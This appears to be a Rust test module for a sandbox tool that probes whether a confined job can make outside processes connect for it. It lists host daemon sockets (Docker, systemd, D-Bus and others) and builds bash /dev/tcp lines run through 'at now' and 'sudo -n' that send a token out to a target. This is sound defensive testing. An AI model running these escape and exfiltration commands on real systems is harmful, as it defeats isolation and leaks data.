//! Processes outside the job that would do it for the job.

use super::tcp::program;
use crate::bypass::deputy::{Door, ask, tell_by_datagram};
use crate::bypass::{Aim, Case, Done, Failed, FailedAt as _, Played};
use std::io::{Read as _, Write as _};
use std::os::unix::net::UnixStream;
use std::process::{Command, Stdio};

/// Why any process may be asked for anything.
const ASKED: &str = "any process outside that listens to the job can send for it; weir can't know which does. Daemons that are known to are masked, and what a protected target takes from outside every job is the host's part: [under `weir serve`](#under-weir-serve), with `from_outside = \"refuse\"`, it is refused";

/// Where daemons listen that connect for whoever asks; a stand-in for each listens there.
pub(in crate::bypass) const DAEMONS: [(&str, &str, &str); 11] = [
    ("8d", "Docker's socket", "/run/docker.sock"),
    ("8e", "containerd's socket", "/run/containerd/containerd.sock"),
    ("8f", "Podman's socket", "/run/podman/podman.sock"),
    ("8g", "D-Bus's system bus (systemd-run)", "/run/dbus/system_bus_socket"),
    ("8h", "systemd's own socket", "/run/systemd/private"),
    ("8i", "A database's socket in the file system: Postgres", "/run/postgresql/.s.PGSQL.5432"),
    ("8j", "A database's socket in the file system: MySQL", "/run/mysqld/mysqld.sock"),
    ("8k", "CRI-O's socket", "/run/crio/crio.sock"),
    ("10a", "The name service cache's socket (nscd)", "/run/nscd/socket"),
    ("10b", "systemd-resolved's socket (varlink)", "/run/systemd/resolve/io.systemd.Resolve"),
    ("10c", "sssd's socket", "/run/sssd/nss"),
];

pub(super) fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case::job("8a", "A daemon of the host connects for the job, asked over a unix socket", |aim| relayed(Door::Path, aim))
            .not_promised(ASKED),
        Case::job("8b", "The same, asked by a datagram", |aim| {
            tell_by_datagram(aim.to4(), aim)?;
            std::thread::sleep(std::time::Duration::from_millis(300));
            Ok(Done::Sent)
        })
        .not_promised(ASKED),
        Case::job("8c", "at: a command for the host's daemon to run", at_now),
        Case::job("9a", "A daemon of the host, asked over an abstract unix socket", |aim| relayed(Door::Abstract, aim)),
    ];
    let plays: [fn(&Aim) -> Played; 11] = [
        |aim| daemon(0, aim),
        |aim| daemon(1, aim),
        |aim| daemon(2, aim),
        |aim| daemon(3, aim),
        |aim| daemon(4, aim),
        |aim| daemon(5, aim),
        |aim| daemon(6, aim),
        |aim| daemon(7, aim),
        |aim| daemon(8, aim),
        |aim| daemon(9, aim),
        |aim| daemon(10, aim),
    ];
    cases.extend(DAEMONS.iter().zip(plays).map(|(&(id, words, _), play)| Case::job(id, words, play)));
    cases
}

fn relayed(door: Door, aim: &Aim) -> Played {
    let mut stream = ask(door, "relay", aim.to4(), aim)?;
    let mut word = [0; 16];
    stream.read(&mut word).at("read from the unix socket")?;
    Ok(Done::Sent)
}

fn daemon(which: usize, aim: &Aim) -> Played {
    daemon_at(DAEMONS.get(which).map(|(_, _, path)| *path).unwrap_or_default(), aim)
}

/// Asks the daemon that listens at `path`.
pub(super) fn daemon_at(path: &str, aim: &Aim) -> Played {
    let mut stream = UnixStream::connect(path).at("connect to the unix socket")?;
    stream.set_read_timeout(Some(crate::bypass::socket::PATIENCE)).at("setsockopt")?;
    stream.write_all(format!("relay {} {}", aim.to4(), aim.token).as_bytes()).at("send to the unix socket")?;
    let mut word = [0; 16];
    stream.read(&mut word).at("read from the unix socket")?;
    Ok(Done::Sent)
}

fn at_now(aim: &Aim) -> Played {
    let line = format!("exec 3<>/dev/tcp/{}/{} && printf %s {} >&3", aim.v4(), aim.port(), aim.token);
    let mut at =
        Command::new("at").arg("now").stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().at("at")?;
    if let Some(input) = &mut at.stdin {
        writeln!(input, "bash -c '{line}'").at("write to at")?;
    }
    drop(at.stdin.take());
    if !at.wait().at("wait")?.success() {
        return Err(Failed { step: "at", errno: None });
    }
    // The daemon is told at once.
    std::thread::sleep(std::time::Duration::from_millis(1500));
    Ok(Done::Sent)
}

/// As sudo would run it.
pub(super) fn by_sudo(aim: &Aim) -> Played {
    let line = format!(
        "exec 3<>/dev/tcp/{}/{} && printf %s {} >&3 && read -t 1 -n 2 -u 3 answer; true",
        aim.v4(),
        aim.port(),
        aim.token
    );
    program(Command::new("sudo").args(["-n", "bash", "-c", &line]), "sudo")
}
